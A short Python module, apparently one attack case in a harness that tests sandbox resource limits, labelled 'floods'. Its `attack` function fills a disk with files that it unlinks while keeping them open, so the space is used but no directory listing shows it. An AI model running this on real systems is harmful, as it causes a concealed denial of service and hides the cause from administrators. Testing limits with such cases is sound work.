"""Write files that have no name any more and keep them open, so that no listing shows them."""

import os

FAMILY = "floods"
PIECE = 4 << 20


def attack(world):
    kept = []
    for number in range(world["disk"] // PIECE):
        kept.append(open(f"piece-{number}", "wb"))
        os.unlink(f"piece-{number}")
        kept[-1].write(b"x" * PIECE)
    return f"GOT {world['disk'] >> 20} MiB of disk"
